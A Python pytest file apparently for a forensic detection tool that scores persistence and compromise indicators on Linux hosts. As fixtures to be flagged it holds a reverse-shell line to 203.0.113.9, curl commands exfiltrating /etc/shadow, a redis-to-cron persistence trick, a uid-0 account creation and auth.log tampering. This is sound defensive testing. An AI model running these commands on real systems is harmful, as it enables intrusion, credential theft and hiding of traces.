"""What a line means by where it stands: its block, the directory that it starts in, the unit of its process."""

from __future__ import annotations

from pathlib import Path

import pytest

from stopgap.orchestrator.findings import judge, shipped_rules
from stopgap.orchestrator.findings.provenance.acts import acts_of
from stopgap.orchestrator.findings.provenance.commands import programs
from stopgap.orchestrator.findings.provenance.context import absolute, in_blocks, starts_in
from stopgap.orchestrator.severity import SEVERITIES

from .collection import collected

DIGESTS = (
    "d41d8cd98f00b204e9800998ecf8427e  usr/bin/perl\n"
    "d41d8cd98f00b204e9800998ecf8427e  usr/bin/dash\n"
    "d41d8cd98f00b204e9800998ecf8427e  usr/bin/socat\n"
    "d41d8cd98f00b204e9800998ecf8427e  usr/sbin/varnishd\n"
    "d41d8cd98f00b204e9800998ecf8427e  usr/lib/systemd/system/postgrey.service\n"
)
PROGRAM = "0|{}|1|{}|0|0|9|1.0|1.0|1.0|0.0\n"
LINK = "0|/proc/7/{} -> {}|1|lrwxrwxrwx|0|0|0|1.0|1.0|1.0|0.0\n"
FILES = '<FilesMatch "{}">\n SetHandler application/x-httpd-php\n</FilesMatch>\n'
RULES = shipped_rules()


def severities(tmp_path: Path, planted: dict[str, object]) -> dict[str, str]:
    """Give the worst severity of each rule."""
    found = judge(collected(tmp_path, {"package-digests": DIGESTS, "configuration": {}, **planted}), RULES).findings
    worst_last = sorted(found, key=lambda finding: SEVERITIES.index(finding.severity), reverse=True)
    return {finding.id: finding.severity for finding in worst_last if finding.severity != "info"}


@pytest.mark.parametrize(
    ("line", "directory", "found"),
    [
        ("cd /opt/x && ./run.sh; bin/next", "", ("cd", "/opt/x/run.sh", "/opt/x/bin/next")),
        (".cache/sync -d", "/home/ann", ("/home/ann/.cache/sync",)),
        ("cd work; ./run", "", ("cd", "./run")),
        ("cd work; ./run", "/srv", ("cd", "/srv/work/run")),
        ("cd ~/x && ./run", "/srv", ("cd", "./run")),
        ("cd -P /opt/x && ./run", "/srv", ("cd", "/opt/x/run")),
        ("sh -c './x'", "/srv", ("/srv/x",)),
        ("make", "/srv", ("make",)),
    ],
)
def test_a_relative_program_is_the_one_below_where_the_line_starts(
    line: str, directory: str, found: tuple[str, ...]
) -> None:
    assert programs(line, directory) == found


def test_commands_start_at_home_in_the_work_tree_or_where_the_job_was_made() -> None:
    assert starts_in("/var/spool/cron/crontabs/ann", 1000, []) == "/home/ann"
    assert starts_in("/var/spool/cron/crontabs/www-data", 33, []) == ""
    assert starts_in("/var/spool/cron/root", 0, []) == "/root"
    assert starts_in("/srv/site/.git/config", 0, []) == "/srv/site"
    assert starts_in("/var/spool/cron/atjobs/a00003", 1000, [(3, "cd /home/ann || {")]) == "/home/ann"
    assert starts_in("/etc/cron.d/x", 0, []) == ""
    assert absolute("../bin/x", "/srv/site") == "/srv/bin/x"


NGINX = r"""location ~* \.(css|js|png)$ { expires max; log_not_found off; }
location ~ \.php$ {
  if (!-f $document_root$fastcgi_script_name) {
    return 404;
  }
  fastcgi_pass unix:/a;
}
location ~ "^/x{1,2}\.png$"
{
  if ($arg_x) { return 403; }
  include fastcgi_params; fastcgi_pass unix:/b; # }
}
"""
APACHE = """<FilesMatch "png$">
<IfModule x>
SetHandler a
</IfModule>
</FilesMatch>
SetHandler b
"""


def handled(text: str) -> list[str]:
    """Give the handlers that stand in a block, each with its block."""
    lines = list(enumerate(text.splitlines(), 1))
    given = dict.fromkeys(text.splitlines())
    return [line.strip() for _, line in in_blocks(lines) if line not in given]


def test_a_handler_means_what_the_block_around_it_is_for_wherever_braces_stand() -> None:
    assert handled(NGINX) == [
        r"location ~ \.php$ { fastcgi_pass unix:/a",
        r'location ~ "^/x{1,2}\.png$" { fastcgi_pass unix:/b',
    ]
    assert handled(APACHE) == ['<FilesMatch "png$"> SetHandler a']


def test_blocks_that_are_never_closed_cost_little() -> None:
    assert len(list(in_blocks([(n, "location / {") for n in range(5000)]))) == 5000


@pytest.mark.parametrize(
    ("archive", "path", "text", "program"),
    [
        ("git-hooks", "/srv/a/.git/config", "[diff]\n\ttextconv = .git/lfs/x\n", "/srv/a/.git/lfs/x"),
        ("cron", "/var/spool/cron/atjobs/a3", "cd /var/lib/misc || {\n exit 1\n}\n./x\n", "/var/lib/misc/x"),
        ("cron", "/etc/cron.d/x", "5 * * * * root cd /var/lib/misc && ./x\n", "/var/lib/misc/x"),
    ],
)  # fmt: skip
def test_a_program_that_is_named_from_where_the_line_starts_is_judged_by_where_it_lies(
    tmp_path: Path, archive: str, path: str, text: str, program: str
) -> None:
    body = PROGRAM.format(program, "-rwxr-xr-x")
    found = severities(tmp_path, {archive: {path: text}, "bodyfile": body})
    assert {"medium", "high"} & {*found.values()}


@pytest.mark.parametrize(
    ("path", "text", "rule", "severity"),
    [
        ("/etc/pam.d/sshd", "auth sufficient pam_userdb.so db=/srv/x\n", "mechanism-authentication", "high"),
        ("/etc/security/group.conf", "login;*;ann;Al0000-2400;games,shadow\n", "mechanism-authentication", "high"),
        ("/etc/security/capability.conf", "cap_dac_override ann\n", "mechanism-authentication", "high"),
        ("/etc/apache2/x.conf", FILES.format(r"\.(svg|woff2)$"), "mechanism-web", "medium"),
        ("/etc/nginx/x.conf", "location ~ \\.png$ {\n fastcgi_pass unix:/run/p;\n}\n", "mechanism-web", "medium"),
        ("/etc/ld.so.conf.d/00-vendor.conf", "/opt/vendor/lib64\n", "mechanism-loader", "medium"),
        ("/etc/default/grub.d/x.cfg", 'GRUB_EARLY_INITRD_LINUX_CUSTOM="x.img"\n', "mechanism-boot", "medium"),
        ("/etc/cloud/cloud.cfg.d/x.cfg", "    seedfrom: http://198.51.100.9/s/\n", "mechanism-container", "medium"),
        ("/etc/apt/sources.list.d/x.list", "deb http://198.51.100.9/d b main\n", "mechanism-trust", "medium"),
    ],
)  # fmt: skip
def test_settings_that_let_in_run_or_load_what_no_package_settles_are_told(
    tmp_path: Path, path: str, text: str, rule: str, severity: str
) -> None:
    assert severities(tmp_path, {"configuration": {path: text}})[rule] == severity


@pytest.mark.parametrize(
    ("path", "text"),
    [
        ("/etc/pam.d/vsftpd", "auth sufficient pam_userdb.so db=/etc/vsftpd/users\n"),
        ("/etc/pam.d/sshd", "auth sufficient pam_sss.so\n"),
        ("/etc/security/group.conf", "xsh;tty*&!ttyp*;us;Al;games, floppy # not wheel\n# x;*;ann;Al;shadow\n"),
        ("/etc/security/capability.conf", "all root\n!cap_setuid ann\n"),
        ("/etc/cloud/cloud.cfg.d/x.cfg", "    metadata_urls: ['http://169.254.169.254:80', 'http://instance-data']\n"),
        ("/etc/systemd/system/x.service", "ExecStart=/usr/bin/socat TCP-LISTEN:80,fork TCP:10.0.0.5:80\n"),
        ("/etc/apt/sources.list.d/y.list", "deb https://1.1.1.1.mirror.example.org/d b main\n"),
        ("/etc/nginx/tiles.conf", "location ~ ^/tiles/.*\\.png$ {\n uwsgi_pass unix:/run/m;\n}\n"),
        ("/etc/apache2/x.conf", FILES.format(r".+\.ph(?:ar|p|tml)$")),
        ("/etc/nginx/conf.d/x.conf", "location ~ \\.php$ {\n fastcgi_pass x;\n}\nlocation ~ css$ {\n expires 1d;}\n"),
        ("/etc/apt/sources.list.d/x.list", "deb http://10.0.0.9/debian bookworm main\n"),
        ("/etc/nftables.conf", "tcp dport 2222 dnat to 10.20.0.40:22\n"),
        ("/etc/ld.so.conf.d/vendor.conf", "/opt/vendor/lib64\n"),
    ],
)  # fmt: skip
def test_the_same_as_it_is_usual_raises_nothing_above_low(tmp_path: Path, path: str, text: str) -> None:
    assert {*severities(tmp_path, {"configuration": {path: text}}).values()} <= {"low"}


def test_a_program_of_somebody_else_that_root_starts_is_told_and_one_that_runs_as_its_owner_is_not(
    tmp_path: Path,
) -> None:
    owned = "0|/srv/deploy/release.sh|1|-rwxr-xr-x|1000|1000|9|1.0|1.0|1.0|0.0\n"
    roots = "0|/srv/deploy/release.sh|1|-rwxr-xr-x|0|0|9|1.0|1.0|1.0|0.0\n"
    sudo = {"/etc/sudoers.d/x": "ann ALL=(root) NOPASSWD: /srv/deploy/release.sh\n"}
    cron = {"/etc/cron.d/x": "5 * * * * root /srv/deploy/release.sh\n"}
    assert (
        severities(tmp_path / "a", {"configuration": sudo, "bodyfile": owned})["mechanism-authentication"] == "medium"
    )
    assert severities(tmp_path / "b", {"cron": cron, "bodyfile": owned})["mechanism-scheduled"] == "medium"
    for number, planted in enumerate(
        (
            {"configuration": sudo, "bodyfile": roots},
            {"cron": cron, "bodyfile": roots},
            {"configuration": {"/etc/sudoers.d/x": "bob ALL=(ann) /srv/deploy/release.sh\n"}, "bodyfile": owned},
            {"cron": {"/etc/cron.d/x": "5 * * * * ann /srv/deploy/release.sh\n"}, "bodyfile": owned},
            {"cron": {"/etc/cron.d/x": "5 * * * * root su ann -c /srv/deploy/release.sh\n"}, "bodyfile": owned},
        )
    ):
        assert {*severities(tmp_path / str(number), planted).values()} <= {"low"}


def test_a_daemon_of_a_package_with_settings_of_no_package_among_the_packages_is_told(tmp_path: Path) -> None:
    unit = {"/etc/systemd/system/x.service": "ExecStart=/usr/sbin/varnishd -f /usr/share/varnish/x.vcl\n"}
    body = PROGRAM.format("/usr/share/varnish/x.vcl", "-rw-r--r--")
    assert severities(tmp_path / "a", {"units": unit, "bodyfile": body})["mechanism-service"] == "medium"
    usual = {"/etc/systemd/system/x.service": "ExecStart=/usr/sbin/varnishd -f /etc/varnish/x.vcl\n"}
    assert {*severities(tmp_path / "b", {"units": usual}).values()} <= {"low"}


def test_a_server_that_hands_each_connection_to_a_shell_is_told(tmp_path: Path) -> None:
    words = ("systemd-socket-activate", "-l", "8010", "--inetd", "-a", "/usr/bin/bash")
    found = severities(tmp_path, process(words, "/usr/bin/systemd-socket-activate"))
    assert found["running-foreign"] == "high"


def test_a_client_of_redis_that_sets_where_its_dump_goes_is_told(tmp_path: Path) -> None:
    typed = {"/root/.rediscli_history": "keys *\nconfig set dir /var/spool/cron\nconfig set dbfilename root\n"}
    assert severities(tmp_path, {"histories": typed})["history-made-to-stay"] == "medium"


def test_what_a_repository_keeps_for_itself_is_low_and_what_lies_in_its_git_directory_is_not(tmp_path: Path) -> None:
    def of(line: str, program: str, at: Path) -> dict[str, str]:
        return severities(
            at, {"git-hooks": {"/srv/site/.git/config": line}, "bodyfile": PROGRAM.format(program, "-rwxr-xr-x")}
        )

    assert {*of("[core]\n\thooksPath = .husky/_\n", "/srv/site/.husky/_/x", tmp_path / "a").values()} <= {"low"}
    assert {*of("[filter]\n\tclean = ./.tools/clean %f\n", "/srv/site/.tools/clean", tmp_path / "b").values()} <= {
        "low"
    }
    assert of("[filter]\n\tclean = .git/x %f\n", "/srv/site/.git/x", tmp_path / "c")["mechanism-event"] == "high"


def process(words: tuple[str, ...], program: str, **more: str) -> dict[str, object]:
    mapped = "/proc/{}/maps:7f00-7f01 r-xp 0 08:01 9 {}\n"
    return {
        "processes": "/proc/7/stat:7 (x) S 1 7 7 0 -1 4194560 0\n",
        "process-arguments": "".join(f"/proc/7/cmdline:{word}\n" for word in words),
        "process-links": LINK.format("exe", program) + LINK.format("cwd", "/") + more.get("links", ""),
        "process-environments": "/proc/1/environ:A=1\n",
        "process-code": mapped.format(1, "/sbin/init") + mapped.format(7, more.get("maps", program)),
        "process-relations": more.get("relations", ""),
        "bodyfile": more.get("bodyfile", ""),
    }


def test_a_shell_that_takes_its_commands_from_a_named_pipe_is_told_and_one_at_a_terminal_is_not(
    tmp_path: Path,
) -> None:
    pipe = PROGRAM.format("/var/spool/x", "prw-------")
    fed = process(("sh", "-i"), "/usr/bin/dash", links=LINK.format("fd/0", "/var/spool/x"), bodyfile=pipe)
    assert severities(tmp_path / "a", fed)["running-foreign"] == "high"
    at_terminal = process(("sh", "-i"), "/usr/bin/dash", links=LINK.format("fd/0", "/dev/pts/0"), bodyfile=pipe)
    assert severities(tmp_path / "b", at_terminal).get("running-foreign") != "high"
    logging = ("sh", "-c", "while read l; do logger $l; done")
    given = process(logging, "/usr/bin/dash", links=LINK.format("fd/0", "/var/spool/x"), bodyfile=pipe)
    assert severities(tmp_path / "c", given).get("running-foreign") != "high"


def test_a_daemon_of_a_packages_unit_may_write_its_title_over_its_environment_and_no_other_may(
    tmp_path: Path,
) -> None:
    group = "/sys/fs/cgroup/system.slice/{}.service/cgroup.procs:7\n"
    daemon = process(("postgrey --inet=10023",), "/usr/bin/perl", relations=group.format("postgrey"))
    assert "running-foreign" not in severities(tmp_path / "a", daemon)
    for number, (words, unit) in enumerate(
        ((("postgrey --inet=10023",), "other"), (("perl", "-e", "1"), "postgrey"), (("cron",), "postgrey"))
    ):
        other = process(words, "/usr/bin/perl", relations=group.format(unit))
        assert "running-foreign" in severities(tmp_path / str(number), other)


def test_a_library_that_a_daemon_compiled_into_its_own_state_is_quiet_and_another_programs_is_not(
    tmp_path: Path,
) -> None:
    library = "/var/lib/varnish/varnishd/vcl_boot.1/vgc.so"
    body = PROGRAM.format(library, "-rwxr-xr-x")
    own = process(("varnishd",), "/usr/sbin/varnishd", maps=library, bodyfile=body)
    assert "loaded-foreign" not in severities(tmp_path / "a", own)
    other = process(("perl", "-e", "1"), "/usr/bin/perl", maps=library, bodyfile=body)
    assert severities(tmp_path / "b", other)["loaded-foreign"] == "medium"


def test_what_was_stopped_and_started_on_one_line_is_an_administrators_work(tmp_path: Path) -> None:
    line = "systemctl stop clamav-daemon; freshclam; systemctl start clamav-daemon\n"
    assert severities(tmp_path / "a", {"histories": {"/root/.bash_history": line}}) == {}
    for number, typed in enumerate(
        (
            "systemctl stop clamav-daemon; systemctl start other\n",
            "systemctl start auditd; systemctl stop auditd\n",
            "systemctl stop auditd rsyslog && systemctl start auditd\n",
            "useradd -o -u 0 -g 0 toor; service x stop; service x start\n",
            "bash -i >& /dev/tcp/203.0.113.9/443 0>&1 # service x stop; service x start\n",
        )
    ):
        found = severities(tmp_path / str(number), {"histories": {"/root/.bash_history": typed}})
        assert {"medium", "high", "critical"} & {*found.values()}, typed


def test_a_scanner_of_rootkits_is_no_rootkit_and_a_count_behind_a_fetch_is_no_upload(tmp_path: Path) -> None:
    typed = {"/root/.bash_history": "rkhunter --check; chkrootkit -q\n"}
    assert severities(tmp_path, {"histories": typed}) == {}
    assert acts_of('curl -s https://a.example/l >/x && [ "$(wc -l </x)" -gt 9 ]') == ()
    assert acts_of("curl -s https://a.example/$(hostname)") == ("upload",)
    assert acts_of('curl -s "https://a.example/?a=1&q=$(base64 /etc/shadow)"') == ("upload",)


def test_a_key_that_starts_one_command_is_told_low_and_one_that_gives_a_shell_high(tmp_path: Path) -> None:
    key = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIC2AVObrip1rw0W6lPvo4lB3YGnd4Wh/n0R24JwhtSP6 a@b\n"
    for number, (options, severity) in enumerate(
        (
            ('restrict,command="borg serve --restrict-to-path /srv" ', "low"),
            ('command="/bin/bash" ', "high"),
            ("", "high"),
        )
    ):
        found = severities(tmp_path / str(number), {"ssh": {"/srv/backup/.ssh/authorized_keys": options + key}})
        assert found["key-of-service"] == severity


def test_the_home_of_a_service_is_no_persons_whoever_else_has_it(tmp_path: Path) -> None:
    key = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIC2AVObrip1rw0W6lPvo4lB3YGnd4Wh/n0R24JwhtSP6 a@b\n"
    passwd = "www-data:x:33:33::/srv/site:/bin/false\nann:x:1005:1005::/srv/site:/bin/bash\n"
    planted = {"ssh": {"/srv/site/.ssh/authorized_keys": key}, "configuration": {"/etc/passwd": passwd}}
    assert severities(tmp_path, planted)["key-of-service"] == "high"


@pytest.mark.parametrize(
    ("memory", "severity"),
    [
        (":g/203.0.113.9/d\n'0  8  0  /var/log/auth.log\n", "medium"),
        (":v#sshd#d _\n> /var/log/auth.log\n", "medium"),
        (":%s/.*198\\.51\\.100\\.7.*\\n//\n'0  8  0  /var/log/syslog\n", "medium"),
        (":g/^#/d\n> /var/log/nginx/error.log\n", "low"),
        ("'0  8  0  /var/log/auth.log\n", "low"),
    ],
)
def test_a_log_that_was_open_counts_where_an_address_or_a_login_was_deleted(
    tmp_path: Path, memory: str, severity: str
) -> None:
    found = severities(tmp_path, {"histories": {"/root/.viminfo": memory}})
    assert (found["log-edited"], found.get("history-traces-removed")) == (severity, None)


@pytest.mark.parametrize(
    ("gone", "left", "told"),
    [
        ("/usr/lib/x86_64-linux-gnu/libgcrypt-hw.so.20", "/usr/lib/x86_64-linux-gnu/libgcrypt.so.20.4.1", True),
        ("/usr/lib/x86_64-linux-gnu/libssl.so.1.1", "/usr/lib/x86_64-linux-gnu/libssl.so.3", False),
        ("/usr/lib/perl/5.36.0/auto/List/Util.so", "/usr/lib/perl/5.40.1/auto/List/Util.so", False),
        ("/usr/lib/python3/x.cpython-311-x86_64.so", "/usr/lib/python3/x.cpython-313-x86_64.so", False),
        ("/tmp/libnetty_transport_native_epoll_x86_641234567.so", "/usr/lib/a.so", False),
    ],
)  # fmt: skip
def test_a_library_that_an_upgrade_or_java_itself_deleted_is_no_hidden_one(
    tmp_path: Path, gone: str, left: str, *, told: bool
) -> None:
    body = PROGRAM.format(left, "-rwxr-xr-x")
    planted = process(("perl", "-e", "1"), "/usr/bin/perl", maps=f"{gone} (deleted)", bodyfile=body)
    assert ("library-gone" in severities(tmp_path, planted)) == told


def test_a_program_may_have_ports_below_1024_and_no_other_power_of_root_without_being_loud(tmp_path: Path) -> None:
    powers = "/usr/local/bin/{} {}=ep\n"
    low = {"capabilities": powers.format("gitea", "cap_net_bind_service")}
    assert severities(tmp_path / "a", low)["capabilities-unpackaged"] == "low"
    high = {"capabilities": powers.format("x", "cap_net_bind_service,cap_net_admin")}
    assert severities(tmp_path / "b", high)["capabilities-unpackaged"] == "high"


def test_a_page_in_a_folder_of_images_that_a_package_brought_elsewhere_is_quiet(tmp_path: Path) -> None:
    page = {"/srv/shop/htdocs/lib/images/build.php": ""}
    known = DIGESTS + "d41d8cd98f00b204e9800998ecf8427e  usr/share/dokuwiki/lib/images/build.php\n"
    assert "web-program-in-uploads" not in severities(tmp_path / "a", {"web-code": page, "package-digests": known})
    other = {"/srv/shop/htdocs/lib/images/build.php": "<?php echo 1;"}
    assert "web-program-in-uploads" in severities(tmp_path / "b", {"web-code": other, "package-digests": known})
